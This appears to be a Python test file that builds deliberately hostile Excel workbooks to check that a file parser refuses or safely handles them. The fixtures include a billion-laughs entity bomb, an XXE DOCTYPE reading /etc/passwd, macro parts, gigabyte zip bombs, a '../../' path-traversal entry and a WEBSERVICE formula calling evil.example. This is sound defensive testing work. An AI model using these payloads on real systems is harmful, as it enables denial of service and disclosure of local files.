"""Excel workbooks: programs, entities, bombs, and sheets that declare more than they hold."""

from __future__ import annotations

import io
import re
import zipfile
from functools import cache

from tests.hostile.hostile_file import accepted, refused
from tests.hostile.zips import MEGABYTE, archive, deflated, raw_zip, repeated_deflate

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_ROWS = """<row r="1"><c r="A1" t="inlineStr"><is><t>y</t></is></c><c r="B1" t="inlineStr"><is><t>g</t></is></c></row>
<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>f</t></is></c></row>
<row r="3"><c r="A3"><v>0</v></c><c r="B3" t="inlineStr"><is><t>m</t></is></c></row>
"""


def parts(
    rows=_ROWS,
    *,
    head=_HEAD,
    before="",
    sheets='<sheet name="Loans" sheetId="1" r:id="rId1"/>',
    main=".sheet.main+xml",
):
    """Return the parts of a small workbook written by hand."""
    types = "".join(
        f'<Override PartName="/xl/{name}" ContentType="{_SHEET}{kind}"/>'
        for name, kind in (("workbook.xml", main), ("worksheets/sheet1.xml", ".worksheet+xml"))
    )
    kinds = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    link = f'<Relationship Id="rId1" Type="{_OFFICE}/{{}}" Target="{{}}"/>'
    relations = f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">{link}</Relationships>'
    sheet = f'<worksheet xmlns="{_MAIN}">{before}<sheetData>{rows}</sheetData></worksheet>'
    texts = {
        "[Content_Types].xml": f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types">{kinds}{types}</Types>',
        "_rels/.rels": relations.format("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": f'{_HEAD}<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations.format("worksheet", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": head + sheet,
    }
    return {name: text.encode() for name, text in texts.items()}


def workbook(*, without=(), more=None, **changes):
    """Build a small workbook, changed in some way."""

    def build():
        made = parts(**changes) | (more or {})
        return archive({name: content for name, content in made.items() if name not in without})

    return build


def cell(place, value, formula=""):
    return (
        f'<c r="{place}"><f>{formula}</f><v>{value}</v></c>'
        if formula
        else f'<c r="{place}"><v>{value}</v></c>'
    )


@cache
def honest():
    """Return what openpyxl writes."""
    import openpyxl

    book = openpyxl.Workbook()
    for row in (("y", "g", "a"), (1, "f", 10), (0, "m", 20), (1, "m", 30), (0, "f", 40)):
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    made = unzipped(out.getvalue())
    made["docProps/core.xml"] = re.sub(
        rb"\d{4}-\d\d-\d\dT[\d:]+", b"2026-01-01T00:00:00", made["docProps/core.xml"]
    )
    return archive(made)


def unzipped(content):
    """Return the parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def sheet_bomb():
    """Return a sheet with 1.1 GB of blanks between its rows."""
    made = parts()
    packed = {name: deflated(content) for name, content in made.items()}
    start, _, end = made["xl/worksheets/sheet1.xml"].partition(b"</sheetData>")
    packed["xl/worksheets/sheet1.xml"] = repeated_deflate(
        start, b" " * MEGABYTE, 1_100, b"</sheetData>" + end
    )
    return raw_zip(packed)


def text_bomb():
    """Return a workbook whose list of shared texts is 1.1 GB."""
    packed = {name: deflated(content) for name, content in parts().items()}
    item = b"<si><t>" + b"x" * 1_000 + b"</t></si>"
    packed["xl/sharedStrings.xml"] = repeated_deflate(b'<sst xmlns="x">', item * 1_000, 1_150, b"</sst>")
    return raw_zip(packed)


def _billion_laughs():
    lines = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return workbook(head=f'{_HEAD}<!DOCTYPE lolz [<!ENTITY l0 "lol">{lines}]>')()


_FAR_ROW = '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
_NO_ROW = _ROWS.replace("A3", "A99999999999999999999")
_FAR_CORNER = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
_DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd">'
_CACHED = _ROWS.replace('<c r="A3"><v>0</v></c>', cell("A3", 0, "A2-1"))
_UNCACHED = _ROWS.replace('<c r="A3"><v>0</v></c>', '<c r="A3"><f>WEBSERVICE("http://evil.example")</f></c>')
_LINK = (
    f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r" TargetMode="External" '
    f'Target="file:///etc/passwd" Type="{_OFFICE}/externalLinkPath"/></Relationships>'
)

_TEXTS = f'<sst xmlns="{_MAIN}"><si><t>y</t></si><si><t>g</t></si><si><t>f</t></si><si><t>m</t></si></sst>'.encode()


def shared(far=0):
    """Build a workbook whose texts are kept in a list of their own; ``far`` is added to the last number."""
    rows = "".join(
        f'<row r="{i}"><c r="A{i}" {kind}><v>{a}</v></c><c r="B{i}" t="s"><v>{b}</v></c></row>'
        for i, kind, a, b in ((1, 't="s"', 0, 1), (2, "", 1, 2), (3, "", 0, 3 + far))
    )
    return workbook(rows=rows, more={"xl/sharedStrings.xml": _TEXTS})


SHEETS = [
    refused("sheet", "ten billion laughs", _billion_laughs, "unsafe_archive", "entities"),
    refused("sheet", "a foreign file in its head", workbook(head=_DOCTYPE), "unsafe_archive", "entities"),
    refused("sheet", "macros", workbook(more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros", "macros"),
    refused("sheet", "macros by kind", workbook(main="x.macroEnabled.main+xml"), "macros", "macros"),
    refused(
        "sheet",
        "an old macro sheet",
        workbook(more={"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "macros",
        "macros",
    ),
    refused("bomb", "sheet", sheet_bomb, "too_large", "1,024 MB unpacked"),
    refused("bomb", "shared texts", text_bomb, "too_large", "1,024 MB unpacked"),
    refused("sheet", "a far corner", workbook(rows=_ROWS + _FAR_CORNER), "too_large", "2,000 columns"),
    refused("sheet", "a row that no sheet has", workbook(rows=_NO_ROW), "damaged_file too_large"),
    refused(
        "sheet",
        "16,384 columns",
        workbook(rows='<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'),
        "too_large no_rows",
    ),
    refused(
        "sheet",
        "no list of sheets",
        workbook(without=("xl/workbook.xml",), more={"xl/workbook.old": b""}),
        "damaged_file damaged_archive",
        "workbook",
    ),
    refused("sheet", "no sheet", workbook(without=("xl/worksheets/sheet1.xml",)), "damaged_file", "workbook"),
    refused(
        "sheet", "no relations", workbook(without=("xl/_rels/workbook.xml.rels",)), "damaged_file", "workbook"
    ),
    refused("sheet", "an empty sheet", workbook(rows=""), "no_rows", "cells"),
    refused("sheet", "only a header", workbook(rows=_ROWS.split("\n", maxsplit=1)[0]), "no_rows", "no rows"),
    refused(
        "sheet",
        "only hidden sheets",
        workbook(sheets='<sheet name="Secret" sheetId="1" state="hidden" r:id="rId1"/>'),
        "choose_part",
        "Secret",
    ),
    refused(
        "sheet",
        "a link out of the archive",
        workbook(more={"../../evil.xml": b"x"}),
        "unsafe_archive",
        "unsafe name",
    ),
    refused(
        "sheet", "cut off", lambda: honest()[: len(honest()) // 2], "damaged_archive damaged_file", "damaged"
    ),
    refused(
        "sheet",
        "a sheet that breaks off",
        workbook(rows=_ROWS + '<row r="4"><c r="A4"><v>'),
        "damaged_file",
        "damaged",
    ),
    refused("sheet", "100,000 levels of tags", workbook(rows="<row>" * 100_000), "damaged_file no_rows"),
    accepted("sheet", "a million rows declared", workbook(before='<dimension ref="A1:XFD1048576"/>'), (2, 2)),
    accepted(
        "sheet", "a value in the last row", workbook(rows=_ROWS + _FAR_ROW), (3, 2), "empty_rows", slow=True
    ),
    accepted("sheet", "formulas with results", workbook(rows=_CACHED), (2, 2)),
    accepted("sheet", "formulas without results", workbook(rows=_UNCACHED), (2, 2), "formula_without_value"),
    accepted(
        "sheet",
        "links to other workbooks",
        workbook(more={"xl/externalLinks/_rels/externalLink1.xml.rels": _LINK.encode()}),
        (2, 2),
    ),
    refused("sheet", "a shared text that is not there", shared(far=10**9), "damaged_file"),
    accepted("sheet", "shared texts", shared(), (2, 2)),
    accepted("sheet", "as openpyxl writes it", honest, (4, 3)),
]
